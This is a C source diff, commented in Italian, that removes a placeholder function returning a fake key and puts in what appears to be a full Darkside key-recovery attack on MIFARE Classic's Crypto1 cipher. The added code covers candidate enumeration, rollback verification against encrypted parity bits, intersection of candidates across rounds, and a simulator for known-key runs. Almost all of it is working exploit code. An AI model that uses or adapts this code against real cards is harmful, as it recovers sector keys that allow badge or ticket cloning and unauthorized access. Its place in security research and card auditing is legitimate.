@@ -1,44 +1,323 @@
 /**
  * Implementazione dell'algoritmo Darkside Crack specifico per MFCUK
  * Basata sugli algoritmi di crittanalisi di Crypto1
+ *
+ * S0 è lo stato dopo uid^nt. Per ogni c si immette {nr}_c cifrato, poi {ar}
+ * (32 passi senza input) e si osserva il keystream del NACK. Se il keystream
+ * degli ultimi 3 bit di {nr} non dipende da c (condizione necessaria
+ * dell'attacco, altrimenti il round non produce la chiave), gli stati dei
+ * diversi c al passo 67 differiscono per una costante lineare D_c.
+ * Le finestre di 21 bit delle due metà compatibili con i 16 bit di NACK
+ * vengono enumerate una sola volta (prefisso comune a tutti i c), poi le
+ * coppie complete vengono verificate riavvolgendo: le parità devono tornare
+ * e tutti i c devono ricondurre allo stesso S0.
  */
-#include <Arduino.h>
-#include "mfcuk_types.h"
-#include "mfcuk_crypto.h"
+#include "mfcuk_crypto_darkside.h"
 
-bool darkside_crack(uint32_t nt, uint32_t nr, uint32_t ar, uint64_t *key) {
-    // Verifica parametri
-    if (key == nullptr) {
-        return false;
+#ifndef ARDUINO
+#include <stdio.h>
+#endif
+
+#ifdef ARDUINO
+#define DS_LOG(...) Serial.printf(__VA_ARGS__)
+#else
+#define DS_LOG(...) printf(__VA_ARGS__)
+#endif
+
+// Finestre candidate di 21 bit per ciascuna metà
+#define DS_HALF_MAX    1024
+#define DS_HALF_BITS   21
+
+/**
+ * Bit di parità dispari di un byte (come trasmesso da Mifare)
+ */
+static inline uint8_t ds_odd_parity(uint32_t b) {
+    return crypto1_parity(b & 0xff) ^ 1;
+}
+
+/**
+ * Byte j (0 = primo trasmesso) di una parola
+ */
+static inline uint32_t ds_byte(uint32_t w, int j) {
+    return (w >> (24 - 8 * j)) & 0xff;
+}
+
+/**
+ * Differenza tra lo stato del caso c e quello del caso 0 al passo 67:
+ * propagazione lineare dei 3 bit variati in un LFSR partito da zero
+ */
+static void ds_differences(Crypto1State diff[8]) {
+    for (uint32_t c = 0; c < 8; c++) {
+        Crypto1State z = {0, 0};
+        
+        crypto1_word(&z, c << 5, 0);
+        crypto1_word(&z, 0, 0);
+        for (int i = 0; i < 3; i++) crypto1_bit(&z, 0, 0);
+        
+        diff[c].odd = z.odd & 0xffffff;
+        diff[c].even = z.even & 0xffffff;
     }
+}
+
+/**
+ * Finestre di 21 bit di una metà compatibili con il keystream di tutti gli 8 NACK
+ * La metà dispari al passo 67 produce i bit 1 e 3 del NACK, la pari i bit 0 e 2
+ * @param truncated Diventa true se le finestre superano DS_HALF_MAX
+ */
+static uint32_t ds_half_candidates(const DarksideRun* run, const Crypto1State diff[8], bool odd, uint32_t* out,
+                                   bool* truncated) {
+    const int b = odd ? 1 : 0;
+    uint32_t n = 0;
     
-    // Questa è una versione semplificata dell'algoritmo Darkside per il cracking delle chiavi
-    // In una implementazione reale, sarebbe molto più complesso e utilizzerebbe
-    // l'analisi degli stati interni di Crypto1 basandosi sui nonce e sulle risposte raccolte
+    for (uint32_t x = 0; x < (1UL << DS_HALF_BITS); x++) {
+        bool good = true;
+        
+        for (int c = 0; good && c < 8; c++) {
+            uint32_t w = x ^ ((odd ? diff[c].odd : diff[c].even) & 0x1fffff);
+            good = crypto1_filter_inline(w >> 1) == CRYPTO1_BIT(run->ks[c], b) &&
+                   crypto1_filter_inline(w) == CRYPTO1_BIT(run->ks[c], b + 2);
+        }
+        
+        if (good) {
+            if (n == DS_HALF_MAX) {
+                *truncated = true;
+                break;
+            }
+            out[n++] = x;
+        }
+    }
     
-    Serial.println("[CRYPTO] Avvio darkside_crack");
-    Serial.print("[CRYPTO] NT: 0x"); Serial.println(nt, HEX);
-    Serial.print("[CRYPTO] NR: 0x"); Serial.println(nr, HEX);
-    Serial.print("[CRYPTO] AR: 0x"); Serial.println(ar, HEX);
+    return n;
+}
+
+/**
+ * Verifica uno stato completo al passo 67 contro tutti gli 8 casi
+ * @param s0 stato dopo uid^nt ricostruito (se il candidato è valido)
+ */
+static bool ds_check_state(const DarksideRun* run, uint32_t odd, uint32_t even,
+                           const Crypto1State diff[8], Crypto1State* s0) {
+    for (uint32_t c = 0; c < 8; c++) {
+        Crypto1State s = {odd ^ diff[c].odd, even ^ diff[c].even};
+        uint32_t nr_c = run->nr_enc | (c << 5);
+        uint32_t ks1, ks2, nr, ar;
+        uint8_t ks3;
+        
+        crypto1_rollback_bit(&s, 0, 0);
+        crypto1_rollback_bit(&s, 0, 0);
+        ks3 = crypto1_rollback_bit(&s, 0, 0);
+        ks2 = crypto1_rollback_word(&s, 0, 0);
+        ks1 = crypto1_rollback_word(&s, nr_c, 1);
+        
+        nr = ks1 ^ nr_c;
+        ar = ks2 ^ run->ar_enc;
+        
+        // Ogni bit di parità è cifrato con il bit di keystream del bit successivo
+        if ((run->par[c][0] ^ CRYPTO1_BIT(ks1, 16)) != ds_odd_parity(ds_byte(nr, 0))) return false;
+        if ((run->par[c][1] ^ CRYPTO1_BIT(ks1, 8))  != ds_odd_parity(ds_byte(nr, 1))) return false;
+        if ((run->par[c][2] ^ CRYPTO1_BIT(ks1, 0))  != ds_odd_parity(ds_byte(nr, 2))) return false;
+        if ((run->par[c][3] ^ CRYPTO1_BIT(ks2, 24)) != ds_odd_parity(ds_byte(nr, 3))) return false;
+        if ((run->par[c][4] ^ CRYPTO1_BIT(ks2, 16)) != ds_odd_parity(ds_byte(ar, 0))) return false;
+        if ((run->par[c][5] ^ CRYPTO1_BIT(ks2, 8))  != ds_odd_parity(ds_byte(ar, 1))) return false;
+        if ((run->par[c][6] ^ CRYPTO1_BIT(ks2, 0))  != ds_odd_parity(ds_byte(ar, 2))) return false;
+        if ((run->par[c][7] ^ ks3)                  != ds_odd_parity(ds_byte(ar, 3))) return false;
+        
+        // Tutti i casi partono dallo stesso stato dopo nt
+        s.odd &= 0xffffff;
+        s.even &= 0xffffff;
+        if (c == 0) {
+            *s0 = s;
+        } else if (s.odd != s0->odd || s.even != s0->even) {
+            return false;
+        }
+    }
     
-    // Simuliamo il calcolo della chiave
-    // Questo è solo un placeholder per mostrare il flusso del codice
-    uint64_t candidate_key = 0;
-    bool success = false;
+    return true;
+}
+
+/**
+ * Chiavi candidate di un singolo round
+ */
+uint32_t darkside_candidates(uint32_t uid, const DarksideRun* run, uint64_t* keys, uint32_t max_keys,
+                             bool* truncated) {
+    Crypto1State diff[8];
+    uint32_t *odd_list, *even_list;
+    uint32_t num_odd, num_even, n = 0;
+    bool cut = false;
+    
+    odd_list = (uint32_t*)malloc(2 * DS_HALF_MAX * sizeof(uint32_t));
+    if (odd_list == NULL) return 0;
+    even_list = odd_list + DS_HALF_MAX;
     
-    // Simulazione di successo con una chiave di test
-    // In un'implementazione reale, qui ci sarebbe l'algoritmo vero e proprio
-    candidate_key = ((uint64_t)0xA0B1C2 << 24) | 0xD3E4F5;
-    success = true;
+    crypto1_tables_init();
+    ds_differences(diff);
     
-    if (success) {
-        *key = candidate_key;
-        Serial.print("[CRYPTO] Chiave trovata: 0x");
-        Serial.println((unsigned long)(candidate_key >> 32), HEX);
-        Serial.println((unsigned long)(candidate_key), HEX);
-        return true;
+    num_odd = ds_half_candidates(run, diff, true, odd_list, &cut);
+    num_even = ds_half_candidates(run, diff, false, even_list, &cut);
+    
+    // Completa i 3 bit alti di ciascuna metà e verifica per riavvolgimento
+    for (uint32_t i = 0; i < num_odd; i++) {
+        for (uint32_t j = 0; j < num_even; j++) {
+            for (uint32_t top = 0; top < 64; top++) {
+                uint32_t odd = odd_list[i] | (top & 7) << DS_HALF_BITS;
+                uint32_t even = even_list[j] | (top >> 3) << DS_HALF_BITS;
+                Crypto1State s0;
+                
+                if (!ds_check_state(run, odd, even, diff, &s0)) continue;
+                
+                crypto1_rollback_word(&s0, uid ^ run->nt, 0);
+                if (n < max_keys) keys[n++] = crypto1_get_key(&s0);
+                else cut = true;
+            }
+        }
+#ifdef ARDUINO
+        yield();
+#endif
     }
     
-    Serial.println("[CRYPTO] Chiave non trovata");
-    return false;
+    free(odd_list);
+    if (truncated) *truncated = cut;
+    return crypto1_keys_sort_unique(keys, n);
+}
+
+bool darkside_solver_init(DarksideSolver* ds) {
+    memset(ds, 0, sizeof(*ds));
+    
+    ds->keys = (uint64_t*)malloc(2 * DARKSIDE_MAX_CANDIDATES * sizeof(uint64_t));
+    if (ds->keys == NULL) return false;
+    ds->scratch = ds->keys + DARKSIDE_MAX_CANDIDATES;
+    
+    return true;
+}
+
+void darkside_solver_free(DarksideSolver* ds) {
+    free(ds->keys);
+    ds->keys = ds->scratch = NULL;
+    ds->count = 0;
+}
+
+/**
+ * Aggiunge un round: i candidati del round vengono intersecati con quelli
+ * accumulati (entrambe le liste sono ordinate, fusione lineare in place)
+ */
+uint32_t darkside_solver_add_run(DarksideSolver* ds, uint32_t uid, const DarksideRun* run) {
+    bool truncated;
+    uint32_t n = darkside_candidates(uid, run, ds->scratch, DARKSIDE_MAX_CANDIDATES, &truncated);
+    
+    ds->status = truncated ? DARKSIDE_ROUND_TRUNCATED : 0;
+    if (truncated) {
+        ds->truncated++;
+        DS_LOG("[CRYPTO] Darkside nt %08X: candidati oltre i limiti (finestre %u, chiavi %u), lista troncata\n",
+               (unsigned)run->nt, DS_HALF_MAX, DARKSIDE_MAX_CANDIDATES);
+    }
+    
+    if (n == 0) {
+        // Il keystream degli ultimi bit di {nr} dipendeva da c: round inutilizzabile
+        ds->status |= DARKSIDE_ROUND_EMPTY;
+        ds->discarded++;
+        DS_LOG("[CRYPTO] Darkside nt %08X: nessun candidato, round scartato\n", (unsigned)run->nt);
+        return ds->count;
+    }
+    
+    if (ds->count == 0) {
+        memcpy(ds->keys, ds->scratch, n * sizeof(uint64_t));
+        ds->count = n;
+    } else {
+        uint32_t i = 0, j = 0, m = 0;
+        
+        while (i < ds->count && j < n) {
+            if (ds->keys[i] < ds->scratch[j]) i++;
+            else if (ds->keys[i] > ds->scratch[j]) j++;
+            else { ds->keys[m++] = ds->keys[i]; i++; j++; }
+        }
+        
+        if (m == 0) {
+            // Round incoerenti (o un round troncato senza la chiave): si riparte dall'ultimo
+            ds->status |= DARKSIDE_ROUND_RESET;
+            ds->resets++;
+            ds->discarded++;
+            DS_LOG("[CRYPTO] Darkside nt %08X: nessun candidato in comune con i round precedenti (%u), "
+                   "si riparte da questo round\n", (unsigned)run->nt, (unsigned)ds->count);
+            memcpy(ds->keys, ds->scratch, n * sizeof(uint64_t));
+            m = n;
+        }
+        ds->count = m;
+    }
+    
+    ds->rounds++;
+    DS_LOG("[CRYPTO] Darkside round %u (nt %08X): %u candidati, rimasti %u\n",
+           (unsigned)ds->rounds, (unsigned)run->nt, (unsigned)n, (unsigned)ds->count);
+    
+    return ds->count;
+}
+
+bool darkside_solver_ready(const DarksideSolver* ds) {
+    return ds->count > 0 && ds->count <= DARKSIDE_VERIFY_LIMIT;
+}
+
+/**
+ * Recupera la chiave da uno o più round, fermandosi appena resta un candidato
+ */
+bool darkside_crack(uint32_t uid, const DarksideRun* runs, int num_runs, uint64_t *key) {
+    DarksideSolver ds;
+    bool found = false;
+    
+    if (key == NULL || runs == NULL || !darkside_solver_init(&ds)) {
+        return false;
+    }
+    
+    DS_LOG("[CRYPTO] Avvio darkside_crack (%d round)\n", num_runs);
+    
+    for (int i = 0; i < num_runs && ds.count != 1; i++) {
+        darkside_solver_add_run(&ds, uid, &runs[i]);
+    }
+    
+    if (ds.count == 1) {
+        *key = ds.keys[0];
+        found = true;
+        DS_LOG("[CRYPTO] Chiave trovata: %012llX\n", (unsigned long long)*key);
+    } else {
+        DS_LOG("[CRYPTO] Chiave non univoca: %u candidati (%u intersezioni vuote, %u round troncati)\n",
+               (unsigned)ds.count, (unsigned)ds.resets, (unsigned)ds.truncated);
+    }
+    
+    darkside_solver_free(&ds);
+    return found;
+}
+
+/**
+ * Osservazioni prodotte da una carta con chiave nota: per ogni c la parità
+ * accettata è quella corretta cifrata, e il NACK è cifrato con i 4 bit
+ * di keystream successivi a {ar}
+ */
+void darkside_simulate_run(uint64_t key, uint32_t uid, uint32_t nt, uint32_t nr_enc, uint32_t ar_enc,
+                           DarksideRun* run) {
+    run->nt = nt;
+    run->nr_enc = nr_enc & ~0xe0UL;
+    run->ar_enc = ar_enc;
+    
+    for (uint32_t c = 0; c < 8; c++) {
+        Crypto1State s;
+        uint32_t nr_c = run->nr_enc | (c << 5);
+        uint32_t ks1, ks2, nr, ar;
+        uint8_t ks3 = 0;
+        
+        crypto1_init(&s, key);
+        crypto1_word(&s, uid ^ nt, 0);
+        ks1 = crypto1_word(&s, nr_c, 1);
+        ks2 = crypto1_word(&s, 0, 0);
+        for (int k = 0; k < 4; k++) ks3 |= crypto1_bit(&s, 0, 0) << k;
+        
+        nr = ks1 ^ nr_c;
+        ar = ks2 ^ ar_enc;
+        
+        run->ks[c] = ks3;
+        run->par[c][0] = ds_odd_parity(ds_byte(nr, 0)) ^ CRYPTO1_BIT(ks1, 16);
+        run->par[c][1] = ds_odd_parity(ds_byte(nr, 1)) ^ CRYPTO1_BIT(ks1, 8);
+        run->par[c][2] = ds_odd_parity(ds_byte(nr, 2)) ^ CRYPTO1_BIT(ks1, 0);
+        run->par[c][3] = ds_odd_parity(ds_byte(nr, 3)) ^ CRYPTO1_BIT(ks2, 24);
+        run->par[c][4] = ds_odd_parity(ds_byte(ar, 0)) ^ CRYPTO1_BIT(ks2, 16);
+        run->par[c][5] = ds_odd_parity(ds_byte(ar, 1)) ^ CRYPTO1_BIT(ks2, 8);
+        run->par[c][6] = ds_odd_parity(ds_byte(ar, 2)) ^ CRYPTO1_BIT(ks2, 0);
+        run->par[c][7] = ds_odd_parity(ds_byte(ar, 3)) ^ (ks3 & 1);
+    }
 }